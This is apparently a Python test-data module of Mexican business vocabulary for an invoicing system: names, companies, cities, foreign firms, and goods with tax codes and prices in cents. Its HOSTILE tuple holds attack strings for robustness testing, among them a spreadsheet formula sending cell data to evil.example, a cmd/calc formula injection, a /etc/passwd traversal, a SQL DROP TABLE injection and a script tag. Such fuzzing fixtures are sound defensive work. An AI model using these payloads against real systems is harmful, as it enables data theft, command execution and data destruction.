"""Words a business is made of: people, companies, goods, and names that attack."""

from __future__ import annotations

FIRST = (
    "María José", "José Ángel", "Guadalupe", "Íñigo", "Ximena", "Zoë", "Renée", "Iván", "Sofía",
    "Martín", "Lucía", "Óscar", "Begoña", "Nicolás", "Itzel", "Úrsula", "Andrés", "Citlali",
    "Raúl", "Verónica",
)  # fmt: skip
LAST = (
    "García", "Hernández", "Muñoz", "Peña", "Núñez", "D'Angelo", "O'Farrill", "Güemes", "López",
    "Ibáñez", "Canché", "Ocaña", "Sáenz", "Treviño", "Yáñez", "Zúñiga", "Xicoténcatl", "Robles",
)  # fmt: skip
TRADES = (
    "Comercializadora", "Distribuidora", "Servicios", "Transportes", "Constructora", "Grupo",
    "Farmacéutica", "Tecnologías", "Alimentos", "Consultores", "Refaccionaria", "Papelería",
)  # fmt: skip
BRANDS = (
    "del Bajío", "Ñandú", "Sierra Azul", "Quetzal", "La Güera", "Anáhuac", "Mayab", "Pacífico",
    "El Águila", "Tres Ríos", "Cempasúchil", "Xochimilco", "Monarca", "Ámbar", "Nopal & Hijos",
    "Peñón", "Volcán", "Estrella",
)  # fmt: skip
FORMS = ("SA DE CV", "S DE RL DE CV", "SAPI DE CV", "SC", "SAS DE CV")
CITIES = (
    ("06600", "Ciudad de México", "CDMX"), ("44100", "Guadalajara", "JAL"),
    ("64000", "Monterrey", "NL"), ("97000", "Mérida", "YUC"), ("22000", "Tijuana", "BC"),
    ("76000", "Querétaro", "QRO"), ("72000", "Puebla", "PUE"), ("37000", "León", "GTO"),
)  # fmt: skip
FOREIGNERS = (
    ("Smith & Sons, LLC", "USA"), ("Jürgen Müller GmbH", "DEU"), ("Société Générale d'Eau", "FRA"),
    ("北京科技有限公司", "CHN"), ("Łódź Handel Sp. z o.o.", "POL"), ("Ødegård Shipping AS", "NOR"),
)  # fmt: skip

# Each has broken some spreadsheet, terminal, shell, database or file name.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Ver factura")',
    "[bold]x[/bold]",
    "\x1b[31mROJO\x1b[0m SA",
    "../../etc/passwd",
    "Robert'); DROP TABLE clients;--",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Doña Ñ 🦄 \u202eevil",
    "line one\nline two\ttabbed",
    "-1+1",
    "<script>alert(1)</script>",
    '"Comillas", S.A. ',
    "zero\u200bwidth and NFD e\u0301",
)

# description, product key, unit key, unit name, cents, levies
GOODS: tuple[tuple[str, str, str, str, int, str], ...] = (
    ("Consultoría fiscal", "80141503", "E48", "Unidad de servicio", 145_000, "iva16"),
    ("Desarrollo de software a la medida", "81111500", "HUR", "Hora", 98_000, "iva16"),
    ("Licencia anual “Ámbar”", "43232300", "E48", "Unidad de servicio", 1_249_950, "iva16"),
    ("Soporte técnico mensual", "81111800", "MON", "Mes", 459_990, "iva16"),
    ("Póliza de mantenimiento", "72101500", "E48", "Unidad de servicio", 380_000, "iva16"),
    ("Flete CDMX–Monterrey", "78101800", "E48", "Unidad de servicio", 1_860_000, "flete"),
    ("Flete local 3.5 t", "78101800", "E48", "Unidad de servicio", 245_000, "flete"),
    ("Honorarios por dictamen", "80101500", "E48", "Unidad de servicio", 1_000_000, "honorarios"),
    ("Diseño gráfico", "82141500", "HUR", "Hora", 65_000, "iva16"),
    ("Capacitación en sitio", "86101700", "E48", "Unidad de servicio", 870_000, "exento"),
    ("Libro técnico", "55101500", "H87", "Pieza", 42_000, "iva0"),
    ("Medicamento genérico", "51101500", "H87", "Pieza", 18_750, "iva0"),
    ("Maíz blanco a granel", "10151500", "KGM", "Kilogramo", 890, "iva0"),
    ('Tornillería galvanizada 1/2"', "31161500", "H87", "Pieza", 1_234, "iva16"),
    ("Papel bond carta", "14111500", "XBX", "Caja", 119_999, "iva16"),
    ("Tóner compatible", "44103100", "H87", "Pieza", 89_900, "iva16"),
    ('Monitor 27" 4K', "43211900", "H87", "Pieza", 749_900, "iva16"),
    ('Laptop 14"', "43211500", "H87", "Pieza", 2_189_900, "iva16"),
    ("Instalación de red", "72151600", "E48", "Unidad de servicio", 560_000, "iva8"),
    ("Renta de oficina", "80131500", "MON", "Mes", 2_300_000, "iva16"),
    ("Mezcal artesanal 750 ml", "50202200", "H87", "Pieza", 61_500, "ieps265"),
    ("Chocolate de mesa 540 g", "50161500", "H87", "Pieza", 9_890, "ieps8"),
    ("Café orgánico 1 kg", "50201700", "KGM", "Kilogramo", 32_000, "iva0"),
    ("Publicidad en línea", "82101600", "E48", "Unidad de servicio", 500_000, "iva16"),
    ("Servicio de nube", "81112100", "MON", "Mes", 189_345, "iva16"),
    ("Auditoría ISO 9001", "84111600", "E48", "Unidad de servicio", 6_800_000, "iva16"),
)
